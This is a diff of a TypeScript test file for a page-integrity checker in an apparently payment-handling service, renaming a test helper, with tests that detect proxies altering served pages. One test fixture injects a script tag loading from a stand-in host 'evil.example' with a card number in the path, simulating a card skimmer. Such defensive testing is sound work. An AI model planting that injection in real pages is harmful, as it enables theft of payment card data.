@@ -13,15 +13,15 @@ import { runFire } from '../../src/doors/schedule/schedule.ts';
 import { checkOwnPages } from '../../src/installation/doctor/page-check.ts';
 import { scheduleStore } from '../../src/work/jobs/schedule-store.ts';
 import { openChangingProxy, type PassingAnswer } from '../helpers/changing-proxy.ts';
-import { openHttpRooms, TEST_BASE_URL } from '../helpers/http-rooms.ts';
+import { openHttpApp, TEST_BASE_URL } from '../helpers/http-app.ts';
 
 /** Opens the service behind a proxy that serves it in `folder`. */
-async function openCheckedRooms(t: ExecutionContext, folder = '') {
-	const rooms = await openHttpRooms(t, 'sqlite', { settings: { baseUrl: TEST_BASE_URL + folder } });
-	await rooms.app.listen({ host: '127.0.0.1', port: 0 });
+async function openCheckedApp(t: ExecutionContext, folder = '') {
+	const parts = await openHttpApp(t, 'sqlite', { settings: { baseUrl: TEST_BASE_URL + folder } });
+	await parts.app.listen({ host: '127.0.0.1', port: 0 });
 	const proxy = await openChangingProxy(
 		t,
-		`http://127.0.0.1:${(rooms.app.server.address() as { port: number }).port}`,
+		`http://127.0.0.1:${(parts.app.server.address() as { port: number }).port}`,
 		folder,
 	);
 	const lines: string[] = [];
@@ -29,15 +29,15 @@ async function openCheckedRooms(t: ExecutionContext, folder = '') {
 	const counted: string[] = [];
 	const check = async (change: (answer: PassingAnswer) => void) => {
 		proxy.change = change;
-		const { keyRing, audit, clock } = rooms;
+		const { keyRing, audit, clock } = parts;
 		const differences = await checkOwnPages(
 			{ keyRing, audit, clock, logger, onDifference: ({ of }) => void counted.push(of) },
-			{ baseUrl: proxy.url, hideSeconds: rooms.settings.hideSeconds, actor: 'daemon' },
+			{ baseUrl: proxy.url, hideSeconds: parts.settings.hideSeconds, actor: 'daemon' },
 		);
 		return differences.map(({ of, what }) => `${of}: ${what}`);
 	};
-	const entries = () => rooms.database.knex('audit').where({ action: 'page.altered' }).orderBy('seq');
-	return { rooms, proxy, check, lines, counted, entries };
+	const entries = () => parts.database.knex('audit').where({ action: 'page.altered' }).orderBy('seq');
+	return { parts, proxy, check, lines, counted, entries };
 }
 
 const isPage = ({ headers }: PassingAnswer) => (headers.get('content-type') ?? '').startsWith('text/html');
@@ -112,7 +112,7 @@ const CHANGES: Readonly<Record<string, { change(answer: PassingAnswer): void; sa
 };
 
 test('pages that come as they were sent are no alarm', async (t) => {
-	const { check, proxy, lines, entries } = await openCheckedRooms(t);
+	const { check, proxy, lines, entries } = await openCheckedApp(t);
 	t.deepEqual(await check(() => {}), []);
 	t.deepEqual(lines, []);
 	t.is((await entries()).length, 0);
@@ -130,7 +130,7 @@ test('pages that come as they were sent are no alarm', async (t) => {
 
 for (const [what, { change, says }] of Object.entries(CHANGES)) {
 	test(`a proxy that ${what} is an alarm`, async (t) => {
-		const { check, lines, counted, entries } = await openCheckedRooms(t);
+		const { check, lines, counted, entries } = await openCheckedApp(t);
 		const differences = await check(change);
 		t.true(
 			differences.some((difference) => says.test(difference)),
@@ -147,13 +147,13 @@ for (const [what, { change, says }] of Object.entries(CHANGES)) {
 }
 
 test('the scheduled task compares the pages at the public URL, and fails when they differ', async (t) => {
-	const { rooms, proxy, counted } = await openCheckedRooms(t);
-	const { database } = rooms;
+	const { parts, proxy, counted } = await openCheckedApp(t);
+	const { database } = parts;
 	const onPageDifference = ({ of }: { of: string }) => void counted.push(of);
 	const tasksOf = (schedule: string, publicUrl?: string) => {
 		const settings = loadSettings({ env: { TOKENDROP_INTEGRITY_SCHEDULE: schedule } });
 		const all = scheduledTasks({
-			...{ ...rooms, settings, onPageDifference, publicUrl: () => publicUrl },
+			...{ ...parts, settings, onPageDifference, publicUrl: () => publicUrl },
 		} as unknown as TasksOptions);
 		return all.filter(({ name }) => name === 'integrity');
 	};
@@ -174,13 +174,13 @@ test('the scheduled task compares the pages at the public URL, and fails when th
 });
 
 test('pages in a folder of the public URL are compared there', async (t) => {
-	const { check, proxy } = await openCheckedRooms(t, '/cards');
+	const { check, proxy } = await openCheckedApp(t, '/cards');
 	t.deepEqual(await check(() => {}), []);
 	t.true(proxy.paths.every((path) => path.startsWith('/cards/')));
 });
 
 test('pages that cannot be fetched are no alarm, but the check fails', async (t) => {
-	const { check, entries } = await openCheckedRooms(t);
+	const { check, entries } = await openCheckedApp(t);
 	const error = await t.throwsAsync(
 		check((answer) => {
 			answer.status = 503;
@@ -192,7 +192,7 @@ test('pages that cannot be fetched are no alarm, but the check fails', async (t)
 });
 
 test('a card number in what somebody put into a page reaches neither log nor trail', async (t) => {
-	const { check, lines, entries } = await openCheckedRooms(t);
+	const { check, lines, entries } = await openCheckedApp(t);
 	const differences = await check(
 		(answer) =>
 			isPage(answer) && edit(answer, '</head>', '<script src="https://evil.example/4111111111111111"></script></head>'),
@@ -201,7 +201,7 @@ test('a card number in what somebody put into a page reaches neither log nor tra
 });
 
 test('a page of a million beginnings of scripts is compared at once', async (t) => {
-	const { check } = await openCheckedRooms(t);
+	const { check } = await openCheckedApp(t);
 	const began = performance.now();
 	await check((answer) => {
 		if (isPage(answer)) answer.body = Buffer.from('<script'.repeat(140_000));
@@ -210,7 +210,7 @@ test('a page of a million beginnings of scripts is compared at once', async (t) 
 });
 
 test('the list is public, and has the hashes of pages, style sheets and scripts as they are sent', async (t) => {
-	const { app, keyRing, clock } = await openHttpRooms(t);
+	const { app, keyRing, clock } = await openHttpApp(t);
 	const { statusCode, headers, body } = await app.inject('/integrity.json');
 	t.is(statusCode, 200);
 	t.like(headers, { 'content-type': 'application/json; charset=utf-8', 'access-control-allow-origin': '*' });
@@ -242,7 +242,7 @@ test('the list is public, and has the hashes of pages, style sheets and scripts 
 });
 
 test('the page that an account opens has the headers of the list, but for its own origins', async (t) => {
-	const { app, createCaller } = await openHttpRooms(t);
+	const { app, createCaller } = await openHttpApp(t);
 	const { pages } = JSON.parse((await app.inject('/integrity.json')).body) as IntegrityList;
 	const caller = await createCaller('shop');
 	const sent = await caller.inject('GET', '/api/payments/capturecard');
@@ -263,7 +263,7 @@ test('the page that an account opens has the headers of the list, but for its ow
 });
 
 test('a link to a sample looks like any other, works for its page only and ends by itself', async (t) => {
-	const { app, keyRing, clock } = await openHttpRooms(t);
+	const { app, keyRing, clock } = await openHttpApp(t);
 	const hasher = credentialHasher(keyRing);
 	const secretOf = (path: string) => path.slice(path.lastIndexOf('/') + 1);
 	for (const name of SAMPLE_NAMES) {
